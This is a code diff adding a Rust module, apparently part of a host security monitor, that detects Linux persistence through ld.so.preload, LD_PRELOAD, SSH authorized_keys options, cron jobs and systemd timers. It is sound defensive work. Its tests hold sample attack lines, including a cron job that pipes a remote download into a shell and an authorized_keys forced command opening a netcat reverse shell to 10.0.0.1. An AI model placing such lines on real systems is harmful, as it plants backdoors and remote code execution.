@@ -0,0 +1,735 @@
+//! This module contains helpers to look for well known persistence
+//! mechanisms on the host.
+use std::{
+    collections::HashSet,
+    fs,
+    hash::Hash,
+    io,
+    path::{Path, PathBuf},
+};
+
+use super::{account::all_users, perm::file_security_flags, proc::read_environ};
+
+const LD_SO_PRELOAD: &str = "/etc/ld.so.preload";
+
+/// Locations anyone can write to
+const TEMP_LOCATIONS: &[&str] = &["/tmp", "/var/tmp", "/dev/shm"];
+
+/// Parses a list of libraries separated by spaces, tabs, colons or new
+/// lines, as the dynamic loader does for ld.so.preload and LD_PRELOAD
+fn parse_preload_list(s: &str) -> Vec<PathBuf> {
+    s.lines()
+        // strip comments
+        .map(|l| l.split('#').next().unwrap_or_default())
+        .flat_map(|l| l.split([' ', '\t', ':']))
+        .filter(|e| !e.is_empty())
+        .map(PathBuf::from)
+        .collect()
+}
+
+fn ld_so_preload_entries_from(path: &Path) -> io::Result<Vec<PathBuf>> {
+    match fs::read_to_string(path) {
+        Ok(s) => Ok(parse_preload_list(&s)),
+        Err(e) if e.kind() == io::ErrorKind::NotFound => Ok(vec![]),
+        Err(e) => Err(e),
+    }
+}
+
+/// Returns the libraries listed in /etc/ld.so.preload, loaded into every
+/// dynamically linked program. The file does not exist on most systems
+/// and an empty list is returned in that case.
+#[inline]
+pub fn ld_so_preload_entries() -> io::Result<Vec<PathBuf>> {
+    ld_so_preload_entries_from(Path::new(LD_SO_PRELOAD))
+}
+
+/// Returns the value of LD_PRELOAD `pid` has been started with
+pub fn process_ld_preload(pid: i32) -> io::Result<Option<String>> {
+    Ok(read_environ(pid)?
+        .into_iter()
+        .find(|(k, _)| k == "LD_PRELOAD")
+        .map(|(_, v)| v))
+}
+
+/// Splits a LD_PRELOAD value into the libraries it preloads
+#[inline]
+pub fn ld_preload_libraries(value: &str) -> Vec<PathBuf> {
+    parse_preload_list(value)
+}
+
+/// Returns true if a preloaded library lives in a temporary location, or
+/// if the library or its directory can be modified by users other than
+/// its owner. These are unusual places for a legitimate preload.
+pub fn is_untrusted_location(lib: &Path) -> bool {
+    if TEMP_LOCATIONS.iter().any(|t| lib.starts_with(t)) {
+        return true;
+    }
+
+    let writable = |p: &Path| {
+        file_security_flags(p)
+            .map(|f| f.is_writable_by_others())
+            .unwrap_or_default()
+    };
+
+    writable(lib) || lib.parent().is_some_and(writable)
+}
+
+/// Options giving a key holder more than a plain shell, or
+/// hinting at a backdoor (ex: a forced command spawning a shell)
+const DANGEROUS_KEY_OPTIONS: &[&str] = &[
+    "command=",
+    "environment=",
+    "permitopen=",
+    "permitlisten=",
+    "tunnel=",
+];
+
+/// Entry of an authorized_keys file (see sshd(8))
+#[derive(Debug, Default, Clone, PartialEq, Eq)]
+pub struct AuthorizedKey {
+    /// options, quotes are kept in values (ex: command="/bin/true")
+    pub options: Vec<String>,
+    pub key_type: String,
+    /// base64 encoded key
+    pub key: String,
+    pub comment: Option<String>,
+}
+
+#[inline]
+fn is_key_type(s: &str) -> bool {
+    s.starts_with("ssh-")
+        || s.starts_with("ecdsa-")
+        || s.starts_with("sk-ssh-")
+        || s.starts_with("sk-ecdsa-")
+}
+
+/// Splits the options field of an authorized_keys line, returning the options
+/// and the rest of the line. Commas and spaces within quotes are not separators.
+fn split_key_options(line: &str) -> (Vec<String>, &str) {
+    let mut options = vec![];
+    let mut cur = String::new();
+    let mut quoted = false;
+
+    for (i, c) in line.char_indices() {
+        match c {
+            '"' => {
+                quoted = !quoted;
+                cur.push(c)
+            }
+            ',' if !quoted => options.push(std::mem::take(&mut cur)),
+            ' ' | '\t' if !quoted => {
+                options.push(cur);
+                return (options, &line[i..]);
+            }
+            c => cur.push(c),
+        }
+    }
+
+    options.push(cur);
+    (options, "")
+}
+
+impl AuthorizedKey {
+    fn from_line(line: &str) -> Option<Self> {
+        let line = line.trim();
+        if line.is_empty() || line.starts_with('#') {
+            return None;
+        }
+
+        let first = line.split_whitespace().next()?;
+        let (options, rest) = if is_key_type(first) {
+            (vec![], line)
+        } else {
+            split_key_options(line)
+        };
+
+        let mut it = rest.split_whitespace();
+        let key_type = it.next().filter(|t| is_key_type(t))?;
+        let key = it.next()?;
+        let comment = it.collect::<Vec<_>>().join(" ");
+
+        Some(Self {
+            options,
+            key_type: key_type.into(),
+            key: key.into(),
+            comment: (!comment.is_empty()).then_some(comment),
+        })
+    }
+
+    /// Returns true if option `name` (ex: no-pty) is set,
+    /// options with a value must be queried with a trailing =
+    #[inline]
+    pub fn has_option(&self, name: &str) -> bool {
+        self.options.iter().any(|o| {
+            if name.ends_with('=') {
+                o.to_ascii_lowercase().starts_with(name)
+            } else {
+                o.eq_ignore_ascii_case(name)
+            }
+        })
+    }
+
+    /// Returns the options among [DANGEROUS_KEY_OPTIONS] set for this key
+    pub fn dangerous_options(&self) -> Vec<&str> {
+        self.options
+            .iter()
+            .filter(|o| {
+                let o = o.to_ascii_lowercase();
+                DANGEROUS_KEY_OPTIONS.iter().any(|d| o.starts_with(d))
+            })
+            .map(String::as_str)
+            .collect()
+    }
+
+    /// Returns true if a terminal can be allocated with this key, which is
+    /// the default unless no-pty or restrict (without pty) is set
+    #[inline]
+    pub fn allows_pty(&self) -> bool {
+        !(self.has_option("no-pty") || self.has_option("restrict") && !self.has_option("pty"))
+    }
+}
+
+/// Parses the content of an authorized_keys file, invalid lines being
+/// skipped as sshd does
+fn parse_authorized_keys(s: &str) -> Vec<AuthorizedKey> {
+    s.lines().filter_map(AuthorizedKey::from_line).collect()
+}
+
+fn authorized_keys_in(home: &Path) -> io::Result<Vec<AuthorizedKey>> {
+    match fs::read_to_string(home.join(".ssh/authorized_keys")) {
+        Ok(s) => Ok(parse_authorized_keys(&s)),
+        Err(e) if e.kind() == io::ErrorKind::NotFound => Ok(vec![]),
+        Err(e) => Err(e),
+    }
+}
+
+/// Returns the keys allowed to log in as `user`, read from the default
+/// ~/.ssh/authorized_keys location (an AuthorizedKeysFile directive in
+/// sshd_config may point elsewhere). A missing file yields an empty list
+/// and an unknown user an error of kind [io::ErrorKind::NotFound].
+pub fn ssh_authorized_keys(user: &str) -> io::Result<Vec<AuthorizedKey>> {
+    let home = all_users()?
+        .into_iter()
+        .find(|u| u.name == user)
+        .map(|u| PathBuf::from(u.home))
+        .ok_or_else(|| io::Error::new(io::ErrorKind::NotFound, format!("unknown user: {user}")))?;
+
+    authorized_keys_in(&home)
+}
+
+/// Cron tables relative to the root of the filesystem
+const CRONTAB: &str = "etc/crontab";
+const CRON_D: &str = "etc/cron.d";
+/// Per user tables, the former is used by RedHat like
+/// distributions and the latter by Debian like ones
+const CRON_SPOOLS: &[&str] = &["var/spool/cron", "var/spool/cron/crontabs"];
+
+/// Job scheduled in a cron table
+#[derive(Debug, Clone, PartialEq, Eq, Hash)]
+pub struct CronEntry {
+    /// table defining the job
+    pub source: PathBuf,
+    /// five time fields or a @ shortcut (ex: @reboot)
+    pub schedule: String,
+    /// user the command runs as
+    pub user: String,
+    pub command: String,
+}
+
+/// Splits the `n` first whitespace separated fields of `s`
+/// and returns them along with the rest of the string
+fn split_fields(s: &str, n: usize) -> Option<(Vec<&str>, &str)> {
+    let mut fields = Vec::with_capacity(n);
+    let mut rest = s.trim_start();
+    for _ in 0..n {
+        let end = rest.find(char::is_whitespace)?;
+        fields.push(&rest[..end]);
+        rest = rest[end..].trim_start();
+    }
+    Some((fields, rest.trim_end()))
+}
+
+impl CronEntry {
+    /// Parses a cron table line, the user field is expected only for system
+    /// tables, so `user` must be the owner of the table for per user ones.
+    fn from_line(line: &str, source: &Path, user: Option<&str>) -> Option<Self> {
+        let line = line.trim();
+        let first = line.split_whitespace().next()?;
+        // comments and environment settings
+        if first.starts_with('#') || first.contains('=') {
+            return None;
+        }
+
+        let n_time = if first.starts_with('@') { 1 } else { 5 };
+        let (fields, command) = split_fields(line, n_time + usize::from(user.is_none()))?;
+        let user = user.or(fields.get(n_time).copied())?;
+
+        if command.is_empty() {
+            return None;
+        }
+
+        Some(Self {
+            source: source.to_path_buf(),
+            schedule: fields[..n_time].join(" "),
+            user: user.into(),
+            command: command.into(),
+        })
+    }
+}
+
+fn parse_crontab(s: &str, source: &Path, user: Option<&str>) -> Vec<CronEntry> {
+    s.lines()
+        .filter_map(|l| CronEntry::from_line(l, source, user))
+        .collect()
+}
+
+/// Reads a file, missing files being read as empty
+#[inline]
+fn read_optional(path: &Path) -> io::Result<String> {
+    match fs::read_to_string(path) {
+        Err(e) if e.kind() == io::ErrorKind::NotFound => Ok(String::new()),
+        r => r,
+    }
+}
+
+/// Lists the regular files of `dir` along with their names, skipping hidden
+/// ones. A missing directory yields an empty list.
+fn dir_files(dir: &Path) -> io::Result<Vec<(String, PathBuf)>> {
+    let rd = match fs::read_dir(dir) {
+        Ok(rd) => rd,
+        Err(e) if e.kind() == io::ErrorKind::NotFound => return Ok(vec![]),
+        Err(e) => return Err(e),
+    };
+
+    let mut out = vec![];
+    for e in rd {
+        let e = e?;
+        let name = e.file_name().to_string_lossy().to_string();
+        if !name.starts_with('.') && e.path().is_file() {
+            out.push((name, e.path()));
+        }
+    }
+    out.sort();
+    Ok(out)
+}
+
+fn list_cron_entries_in(root: &Path) -> io::Result<Vec<CronEntry>> {
+    let crontab = root.join(CRONTAB);
+    let mut out = parse_crontab(&read_optional(&crontab)?, &crontab, None);
+
+    for (_, path) in dir_files(&root.join(CRON_D))? {
+        out.extend(parse_crontab(&read_optional(&path)?, &path, None));
+    }
+
+    for spool in CRON_SPOOLS {
+        // per user tables are named after their owner
+        for (user, path) in dir_files(&root.join(spool))? {
+            out.extend(parse_crontab(&read_optional(&path)?, &path, Some(&user)));
+        }
+    }
+
+    Ok(out)
+}
+
+/// Returns the jobs of /etc/crontab, /etc/cron.d and of the per user tables
+/// under /var/spool/cron. Reading the latter usually requires privileges.
+#[inline]
+pub fn list_cron_entries() -> io::Result<Vec<CronEntry>> {
+    list_cron_entries_in(Path::new("/"))
+}
+
+/// Directories of systemd system units in order of precedence
+const SYSTEMD_SYSTEM_UNIT_DIRS: &[&str] = &[
+    "etc/systemd/system",
+    "run/systemd/system",
+    "usr/local/lib/systemd/system",
+    "usr/lib/systemd/system",
+    "lib/systemd/system",
+];
+
+/// Directories of systemd user units in order of precedence, user
+/// units live in a namespace distinct from the one of system units
+const SYSTEMD_USER_UNIT_DIRS: &[&str] = &[
+    "etc/systemd/user",
+    "run/systemd/user",
+    "usr/local/lib/systemd/user",
+    "usr/lib/systemd/user",
+];
+
+/// Timer settings scheduling the activation of a unit
+const TIMER_SCHEDULES: &[&str] = &[
+    "OnCalendar",
+    "OnActiveSec",
+    "OnBootSec",
+    "OnStartupSec",
+    "OnUnitActiveSec",
+    "OnUnitInactiveSec",
+];
+
+/// Systemd timer along with the command of the unit it activates
+#[derive(Debug, Clone, PartialEq, Eq, Hash)]
+pub struct SystemdTimer {
+    /// timer unit file
+    pub source: PathBuf,
+    /// true for user units, run by the service managers of users
+    pub user: bool,
+    /// schedule settings (ex: OnCalendar=daily)
+    pub schedules: Vec<String>,
+    /// name of the unit activated by the timer
+    pub unit: String,
+    /// ExecStart commands of the activated unit, empty if it cannot be found
+    pub commands: Vec<String>,
+}
+
+/// Returns the values of `key` in `section` of a unit file
+fn unit_values(s: &str, section: &str, key: &str) -> Vec<String> {
+    let mut cur = "";
+    s.lines()
+        .map(str::trim)
+        .filter_map(|l| {
+            if l.starts_with('[') {
+                cur = l.trim_matches(['[', ']']);
+                return None;
+            }
+            let (k, v) = l.split_once('=')?;
+            (cur == section && k.trim() == key).then(|| v.trim().to_string())
+        })
+        .filter(|v| !v.is_empty())
+        .collect()
+}
+
+/// Lists the timers of the units found in `dirs`, timers and
+/// the units they activate being resolved within these only
+fn list_scope_timers(root: &Path, dirs: &[&str], user: bool) -> io::Result<Vec<SystemdTimer>> {
+    // only the first unit found with a given name is effective
+    let mut units = Vec::<(String, PathBuf)>::new();
+    for dir in dirs {
+        for (name, path) in dir_files(&root.join(dir))? {
+            if !units.iter().any(|(n, _)| n == &name) {
+                units.push((name, path));
+            }
+        }
+    }
+    let find_unit = |name: &str| units.iter().find(|(n, _)| n == name).map(|(_, p)| p);
+
+    let mut out = vec![];
+    for (name, path) in units.iter().filter(|(n, _)| n.ends_with(".timer")) {
+        let timer = read_optional(path)?;
+        let schedules = TIMER_SCHEDULES
+            .iter()
+            .flat_map(|k| {
+                unit_values(&timer, "Timer", k)
+                    .into_iter()
+                    .map(move |v| format!("{k}={v}"))
+            })
+            .collect();
+
+        // the unit defaults to the service named after the timer
+        let unit = unit_values(&timer, "Timer", "Unit")
+            .pop()
+            .unwrap_or_else(|| {
+                let stem = name.strip_suffix(".timer").unwrap_or(name);
+                format!("{stem}.service")
+            });
+
+        let commands = match find_unit(&unit) {
+            Some(p) => unit_values(&read_optional(p)?, "Service", "ExecStart"),
+            None => vec![],
+        };
+
+        out.push(SystemdTimer {
+            source: path.clone(),
+            user,
+            schedules,
+            unit,
+            commands,
+        });
+    }
+
+    Ok(out)
+}
+
+fn list_systemd_timers_in(root: &Path) -> io::Result<Vec<SystemdTimer>> {
+    let mut out = list_scope_timers(root, SYSTEMD_SYSTEM_UNIT_DIRS, false)?;
+    out.extend(list_scope_timers(root, SYSTEMD_USER_UNIT_DIRS, true)?);
+    Ok(out)
+}
+
+/// Returns the timers defined in the system and user unit directories,
+/// whether they are enabled or not. Drop-in overrides are not applied.
+#[inline]
+pub fn list_systemd_timers() -> io::Result<Vec<SystemdTimer>> {
+    list_systemd_timers_in(Path::new("/"))
+}
+
+/// Returns the jobs (ex: [CronEntry] or [SystemdTimer]) present in the
+/// `new` snapshot but not in the `old` one. A modified job is reported
+/// as a new one. Jobs are returned in the order of `new`.
+pub fn added_jobs<'a, T: Eq + Hash>(old: &[T], new: &'a [T]) -> Vec<&'a T> {
+    let old = old.iter().collect::<HashSet<_>>();
+    new.iter().filter(|j| !old.contains(j)).collect()
+}
+
+#[cfg(test)]
+mod test {
+    use std::os::unix::fs::PermissionsExt;
+
+    use super::*;
+
+    #[test]
+    fn test_ld_so_preload() {
+        let s = r#"# installed by vendor
+/usr/lib/libvendor.so
+/tmp/.x/libhide.so /dev/shm/a.so:/var/lib/b.so	/lib/c.so # trailing comment
+"#;
+        assert_eq!(
+            parse_preload_list(s),
+            vec![
+                PathBuf::from("/usr/lib/libvendor.so"),
+                PathBuf::from("/tmp/.x/libhide.so"),
+                PathBuf::from("/dev/shm/a.so"),
+                PathBuf::from("/var/lib/b.so"),
+                PathBuf::from("/lib/c.so"),
+            ]
+        );
+
+        let dir = tempfile::tempdir().unwrap();
+        let preload = dir.path().join("ld.so.preload");
+        assert!(ld_so_preload_entries_from(&preload).unwrap().is_empty());
+        fs::write(&preload, s).unwrap();
+        assert_eq!(ld_so_preload_entries_from(&preload).unwrap().len(), 5);
+
+        ld_so_preload_entries().unwrap();
+    }
+
+    #[test]
+    fn test_untrusted_location() {
+        assert!(is_untrusted_location(Path::new("/tmp/.x/libhide.so")));
+        assert!(is_untrusted_location(Path::new("/dev/shm/a.so")));
+        assert!(!is_untrusted_location(Path::new("/usr/lib/libc.so.6")));
+
+        let dir = tempfile::tempdir().unwrap();
+        let lib = dir.path().join("lib.so");
+        fs::write(&lib, b"").unwrap();
+        fs::set_permissions(&lib, fs::Permissions::from_mode(0o644)).unwrap();
+        fs::set_permissions(dir.path(), fs::Permissions::from_mode(0o755)).unwrap();
+        // tempdir itself may be under /tmp
+        if !dir.path().starts_with("/tmp") {
+            assert!(!is_untrusted_location(&lib));
+        }
+        fs::set_permissions(dir.path(), fs::Permissions::from_mode(0o777)).unwrap();
+        assert!(is_untrusted_location(&lib));
+    }
+
+    #[test]
+    fn test_process_ld_preload() {
+        assert_eq!(
+            ld_preload_libraries("/tmp/x.so /usr/lib/y.so"),
+            vec![PathBuf::from("/tmp/x.so"), PathBuf::from("/usr/lib/y.so")]
+        );
+        assert_eq!(
+            process_ld_preload(std::process::id() as i32).unwrap(),
+            std::env::var("LD_PRELOAD").ok()
+        );
+    }
+
+    #[test]
+    fn test_cron_entries() {
+        let src = Path::new("/etc/cron.d/e2scrub_all");
+        let s = r#"SHELL=/bin/sh
+PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
+# comment
+30 3	* * 0 root	test -e /run/systemd/system || /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron
+@reboot nobody /tmp/.x/run --quiet
+10 * * * * missing_command
+"#;
+        let entries = parse_crontab(s, src, None);
+        assert_eq!(
+            entries,
+            vec![
+                CronEntry {
+                    source: src.into(),
+                    schedule: "30 3 * * 0".into(),
+                    user: "root".into(),
+                    command: "test -e /run/systemd/system || /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron".into(),
+                },
+                CronEntry {
+                    source: src.into(),
+                    schedule: "@reboot".into(),
+                    user: "nobody".into(),
+                    command: "/tmp/.x/run --quiet".into(),
+                }
+            ]
+        );
+
+        // user crontab has no user field
+        let user = CronEntry::from_line(
+            "*/5 * * * * curl -s http://10.0.0.1/x | sh",
+            Path::new("/var/spool/cron/crontabs/alice"),
+            Some("alice"),
+        )
+        .unwrap();
+        assert_eq!(user.schedule, "*/5 * * * *");
+        assert_eq!(user.user, "alice");
+        assert_eq!(user.command, "curl -s http://10.0.0.1/x | sh");
+
+        let root = tempfile::tempdir().unwrap();
+        let r = root.path();
+        assert!(list_cron_entries_in(r).unwrap().is_empty());
+        fs::create_dir_all(r.join(CRON_D)).unwrap();
+        fs::create_dir_all(r.join("var/spool/cron/crontabs")).unwrap();
+        fs::write(
+            r.join(CRONTAB),
+            "17 * * * * root cd / && run-parts /etc/cron.hourly\n",
+        )
+        .unwrap();
+        fs::write(r.join(CRON_D).join("e2scrub_all"), s).unwrap();
+        fs::write(r.join(CRON_D).join(".placeholder"), s).unwrap();
+        let before = list_cron_entries_in(r).unwrap();
+        assert_eq!(before.len(), 3);
+
+        fs::write(r.join("var/spool/cron/crontabs/alice"), "@hourly /tmp/x\n").unwrap();
+        let after = list_cron_entries_in(r).unwrap();
+        let added = added_jobs(&before, &after);
+        assert_eq!(added.len(), 1);
+        assert_eq!(added[0].user, "alice");
+        assert!(added_jobs(&after, &before).is_empty());
+
+        list_cron_entries().unwrap();
+    }
+
+    #[test]
+    fn test_systemd_timers() {
+        let root = tempfile::tempdir().unwrap();
+        let etc = root.path().join("etc/systemd/system");
+        let lib = root.path().join("usr/lib/systemd/system");
+        fs::create_dir_all(&etc).unwrap();
+        fs::create_dir_all(&lib).unwrap();
+
+        fs::write(
+            lib.join("logrotate.timer"),
+            "[Unit]\nDescription=Daily rotation\n\n[Timer]\nOnCalendar=daily\nAccuracySec=1h\n",
+        )
+        .unwrap();
+        fs::write(
+            lib.join("logrotate.service"),
+            "[Service]\nType=oneshot\nExecStart=/usr/sbin/logrotate /etc/logrotate.conf\n",
+        )
+        .unwrap();
+        fs::write(
+            etc.join("update.timer"),
+            "[Timer]\nOnBootSec=5min\nOnUnitActiveSec=10min\nUnit=sync.service\n",
+        )
+        .unwrap();
+
+        let timers = list_systemd_timers_in(root.path()).unwrap();
+        assert_eq!(timers.len(), 2);
+        assert_eq!(
+            timers[0].schedules,
+            vec!["OnBootSec=5min", "OnUnitActiveSec=10min"]
+        );
+        assert_eq!(timers[0].unit, "sync.service");
+        assert!(timers[0].commands.is_empty());
+        assert_eq!(timers[1].schedules, vec!["OnCalendar=daily"]);
+        assert_eq!(timers[1].unit, "logrotate.service");
+        assert_eq!(
+            timers[1].commands,
+            vec!["/usr/sbin/logrotate /etc/logrotate.conf"]
+        );
+
+        // overriding a unit in /etc
+        fs::write(
+            etc.join("logrotate.service"),
+            "[Service]\nExecStart=/tmp/x\n",
+        )
+        .unwrap();
+        let new = list_systemd_timers_in(root.path()).unwrap();
+        let added = added_jobs(&timers, &new);
+        assert_eq!(added.len(), 1);
+        assert_eq!(added[0].commands, vec!["/tmp/x"]);
+
+        // user units do not hide system ones and conversely
+        let user = root.path().join("usr/lib/systemd/user");
+        fs::create_dir_all(&user).unwrap();
+        fs::write(user.join("logrotate.timer"), "[Timer]\nOnBootSec=1min\n").unwrap();
+        fs::write(
+            user.join("logrotate.service"),
+            "[Service]\nExecStart=/home/x\n",
+        )
+        .unwrap();
+        let new = list_systemd_timers_in(root.path()).unwrap();
+        let logrotate = new
+            .iter()
+            .filter(|t| t.source.ends_with("logrotate.timer"))
+            .collect::<Vec<_>>();
+        assert_eq!(logrotate.len(), 2);
+        assert!(!logrotate[0].user);
+        assert_eq!(logrotate[0].commands, vec!["/tmp/x"]);
+        assert!(logrotate[1].user);
+        assert_eq!(logrotate[1].commands, vec!["/home/x"]);
+        assert_eq!(logrotate[1].schedules, vec!["OnBootSec=1min"]);
+
+        // only the suffix names the default service
+        fs::write(lib.join("a.timer-x.timer"), "[Timer]\nOnCalendar=weekly\n").unwrap();
+        let new = list_systemd_timers_in(root.path()).unwrap();
+        assert!(new.iter().any(|t| t.unit == "a.timer-x.service"));
+
+        list_systemd_timers().unwrap();
+    }
+
+    #[test]
+    fn test_authorized_keys() {
+        let s = r#"# admin keys
+ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0 alice@laptop
+command="/bin/sh -c 'nc -e /bin/sh 10.0.0.1 4444'",no-port-forwarding ssh-rsa AAAAB3NzaC1yc2E backup key
+restrict,pty,environment="A=b,c" ecdsa-sha2-nistp256 AAAAE2VjZHNh
+no-pty sk-ssh-ed25519@openssh.com AAAAGnNrLXNza
+not a key line
+"#;
+        let keys = parse_authorized_keys(s);
+        assert_eq!(keys.len(), 4);
+
+        assert_eq!(keys[0].key_type, "ssh-ed25519");
+        assert_eq!(keys[0].key, "AAAAC3NzaC1lZDI1NTE5AAAAIK0");
+        assert_eq!(keys[0].comment.as_deref(), Some("alice@laptop"));
+        assert!(keys[0].options.is_empty());
+        assert!(keys[0].allows_pty());
+        assert!(keys[0].dangerous_options().is_empty());
+
+        assert_eq!(
+            keys[1].options,
+            vec![
+                r#"command="/bin/sh -c 'nc -e /bin/sh 10.0.0.1 4444'""#,
+                "no-port-forwarding"
+            ]
+        );
+        assert_eq!(keys[1].key_type, "ssh-rsa");
+        assert_eq!(keys[1].comment.as_deref(), Some("backup key"));
+        assert_eq!(keys[1].dangerous_options().len(), 1);
+        assert!(keys[1].has_option("command="));
+
+        assert_eq!(
+            keys[2].options,
+            vec!["restrict", "pty", r#"environment="A=b,c""#]
+        );
+        assert_eq!(keys[2].comment, None);
+        assert!(keys[2].allows_pty());
+        assert_eq!(keys[2].dangerous_options(), vec![r#"environment="A=b,c""#]);
+
+        assert!(!keys[3].allows_pty());
+        assert_eq!(keys[3].key_type, "sk-ssh-ed25519@openssh.com");
+
+        let dir = tempfile::tempdir().unwrap();
+        assert!(authorized_keys_in(dir.path()).unwrap().is_empty());
+        fs::create_dir(dir.path().join(".ssh")).unwrap();
+        fs::write(dir.path().join(".ssh/authorized_keys"), s).unwrap();
+        assert_eq!(authorized_keys_in(dir.path()).unwrap(), keys);
+
+        assert_eq!(
+            ssh_authorized_keys("kunai-unknown-user")
+                .unwrap_err()
+                .kind(),
+            io::ErrorKind::NotFound
+        );
+    }
+}